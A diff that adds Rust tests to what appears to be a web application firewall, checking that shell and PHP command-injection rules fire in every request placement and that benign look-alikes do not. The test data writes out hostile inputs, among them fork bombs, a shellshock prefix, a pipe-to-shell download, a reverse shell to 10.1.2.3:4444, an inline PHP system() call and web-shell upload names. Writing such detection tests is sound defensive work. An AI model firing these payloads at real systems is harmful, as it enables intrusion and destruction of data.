@@ -1458,3 +1458,278 @@ mod s5_lfirfi {
         }
     }
 }
+
+/// Session 5, rce/php: shell and PHP techniques from CRS 932xxx/933xxx
+/// written as classes of payloads (rules/rce.toml, the shell normalisation's
+/// filler expansions).
+mod s5_rce {
+    use super::*;
+
+    fn rule_hits(r: &Request) -> Vec<String> {
+        hits_of(r).iter().map(|h| h.rule_id.to_string()).collect()
+    }
+
+    /// Each payload must hit its rule in every placement (query, double
+    /// encoded, form, JSON, cookie).
+    #[test]
+    fn techniques_hit_in_every_placement() {
+        let cases: &[(&str, &[&str])] = &[
+            (
+                "rce-shell-fork-bomb",
+                &[
+                    "f(){ f|f& };f",
+                    ".(){ .|.& };.",
+                    "boom() { boom | boom & }; boom",
+                    "x(){ x() & x(); }; x",
+                ],
+            ),
+            ("rce-shellshock-prefix", &["() {", "  ( ) { :; }"]),
+            (
+                "rce-shell-history-tilde",
+                &["!!", "!-3!-1", "!12", "~+", "~-2", "~1"],
+            ),
+            (
+                "rce-shell-brace-expansion",
+                &["{,id}", "{,ip,addr}", "w{h,}oami", "{,$'uname',-a}"],
+            ),
+            (
+                "rce-shell-pipe-to-interpreter",
+                &[
+                    "echo aWQ= | base64 -d | bash",
+                    "curl x.sh|sh",
+                    "echo x | tcc -run -",
+                    "(bash)0>$h/tcp/10.1.2.3/4444",
+                    "cc -wrapper bash,-c,id x.c",
+                    "x;. rm -rf /tmp/a",
+                    "1; .system id",
+                ],
+            ),
+            (
+                "rce-shell-variable-assembly",
+                &["a=i;b=d;c= ;$a$b", "$x$y$z$w /etc/hosts"],
+            ),
+            (
+                "rce-windows-for-if",
+                &[
+                    "FOR %% IN (a) DO echo",
+                    "for /R /D %x in (*) do del %x",
+                    "for %[ in (1)do calc",
+                    "if not (1 geq 2) echo x",
+                    "IF [%1]==[] goto end",
+                    "if/i a==b calc",
+                ],
+            ),
+            (
+                "rce-command-value",
+                &[
+                    "whoami",
+                    "'who'ami",
+                    "ifconfig;x",
+                    "ping -c 3 192.168.1.1",
+                    "ping$() 10.0.0.1",
+                    "p``ing 10.0.0.1",
+                    "bcdedit /set x",
+                    "schtasks /create /tn x",
+                ],
+            ),
+            (
+                "rce-unix-tool-value",
+                &[
+                    "ansible-inventory graph",
+                    "chef generate cookbook x",
+                    "cscli decisions list",
+                    "aa-complain /etc/apparmor.d/x",
+                ],
+            ),
+            (
+                "rce-shell-alias-or-var-command",
+                &["alias -p x=id", "alias ..='cd ..'", "t=wh[o]ami;$t -x"],
+            ),
+            (
+                "rce-php-builtin-call-value",
+                &[
+                    "substr ()",
+                    "strrev/*x*/('a')",
+                    "serialize#c\n()",
+                    "touch/*a*/()",
+                    "range\n()",
+                    "crypt(abc)",
+                ],
+            ),
+            (
+                "rce-php-variable-call-comment",
+                &["$f //x\n('id')", "$_a /*c*/\n[0] (1)", "$fn\n ()"],
+            ),
+            (
+                "rce-php-superglobal-spaced",
+                &["$_SERVER", "$_G ET['a']", "$  { x }"],
+            ),
+        ];
+        let mut failures = Vec::new();
+        for (rule, payloads) in cases {
+            for p in *payloads {
+                for (place, r) in placements(p) {
+                    let got = rule_hits(&r);
+                    if !got.iter().any(|g| g == rule) {
+                        failures.push(format!("{rule} {place}: {p:?} -> {got:?}"));
+                    }
+                }
+            }
+        }
+        assert!(
+            failures.is_empty(),
+            "{} misses:\n{}",
+            failures.len(),
+            failures.join("\n")
+        );
+    }
+
+    /// Values whose technique is a line break (mail protocols) or a header.
+    #[test]
+    fn mail_and_header_placements() {
+        let cases: &[(&str, Request)] = &[
+            (
+                "mail-imap-pop3-command",
+                req(
+                    "GET",
+                    "/m?t=x%0Aa12%20uid%20fetch%201:*%20(FLAGS)",
+                    &[],
+                    b"",
+                ),
+            ),
+            (
+                "mail-imap-pop3-command",
+                req(
+                    "POST",
+                    "/m",
+                    &[("Content-Type", "application/x-www-form-urlencoded")],
+                    b"t=hi%0D%0Ax1+store+1:3+-FLAGS+(%5CSeen)",
+                ),
+            ),
+            (
+                "mail-imap-pop3-command",
+                req(
+                    "POST",
+                    "/m",
+                    &[("Content-Type", "application/json")],
+                    br#"{"t":"x\r\nretr 1\r\n"}"#,
+                ),
+            ),
+            (
+                "rce-unix-tool-value",
+                req("GET", "/", &[("User-Agent", "chef-client -z")], b""),
+            ),
+            (
+                "rce-command-prefix-lead",
+                req("GET", "/", &[("User-Agent", "nohup bash -i")], b""),
+            ),
+            (
+                "rce-shellshock-prefix",
+                req("GET", "/", &[("X-Thing", "() {")], b""),
+            ),
+            (
+                "rce-restricted-upload-name",
+                req("PUT", "/u", &[("X-Filename", ".bashrc")], b""),
+            ),
+            (
+                "rce-restricted-upload-name",
+                req("PUT", "/u", &[("X-File-Name", "wp-config.php.bak")], b""),
+            ),
+            (
+                "rce-php-upload-filename",
+                req("PUT", "/u", &[("X.Filename", "shell. phtml")], b""),
+            ),
+            (
+                "rce-php-upload-filename",
+                req("PUT", "/u", &[("X-Filename", "a.php7..")], b""),
+            ),
+            (
+                "rce-php-code",
+                req(
+                    "GET",
+                    "/",
+                    &[("X-Forwarded-For", "<?php system('id'); ?>")],
+                    b"",
+                ),
+            ),
+        ];
+        let mut failures = Vec::new();
+        for (rule, r) in cases {
+            let got = rule_hits(r);
+            if !got.iter().any(|g| g == rule) {
+                failures.push(format!(
+                    "{rule}: {} {:?} -> {got:?}",
+                    String::from_utf8_lossy(&r.uri),
+                    r.headers
+                ));
+            }
+        }
+        assert!(failures.is_empty(), "{}", failures.join("\n"));
+    }
+
+    /// Near misses: prose, code and names that look like the techniques.
+    #[test]
+    fn near_misses_stay_clean() {
+        let benign = [
+            "render() { return a || b; }",
+            "function(){ a && b; }",
+            "Great!!",
+            "Wow !",
+            "~ 20 minutes",
+            "approx ~5",
+            "{\"a\":1,\"b\":2}",
+            "c{1,2}",
+            "I piped it | shell script later",
+            "version 1.2; source code available",
+            "if you want, then go",
+            "for each item in (the list) do nothing",
+            "whoami is a command",
+            "Ping me at 10.0.0.1",
+            "ping",
+            "sc",
+            "We went to the chef; chef report was fine",
+            "pip install requests==2.31.0",
+            "kubectl get pods -n kube-system",
+            "Touch (Remastered)",
+            "Hash (food)",
+            "Pack (canine)",
+            "range (10-20)",
+            "File (new)",
+            "Time (UTC)",
+            "I paid $5\n(approx) for it",
+            "What does $_GET mean in PHP?",
+            "precision engineering",
+            "a=1; $a is cheap",
+            "Hi team,\nwe will list 3 options below.",
+            "Order A1 steak sauce\nA1 list is here",
+            "echo $HOME",
+            "100$ and $$ off",
+        ];
+        let mut failures = Vec::new();
+        for p in benign {
+            for (place, r) in placements(p) {
+                let hits = hits_of(&r);
+                if !hits.is_empty() {
+                    failures.push(format!("{place}: {p:?} -> {hits:?}"));
+                }
+            }
+        }
+        for (name, value) in [
+            ("X-Filename", "holiday.jpg"),
+            ("X-Filename", "config-backup.zip"),
+            ("User-Agent", "curl/8.4.0"),
+            ("User-Agent", "python-requests/2.31.0"),
+        ] {
+            let r = req("PUT", "/u", &[(name, value)], b"");
+            if !hits_of(&r).is_empty() {
+                failures.push(format!("{name}: {value:?} -> {:?}", hits_of(&r)));
+            }
+        }
+        assert!(
+            failures.is_empty(),
+            "{} false positives:\n{}",
+            failures.len(),
+            failures.join("\n")
+        );
+    }
+}
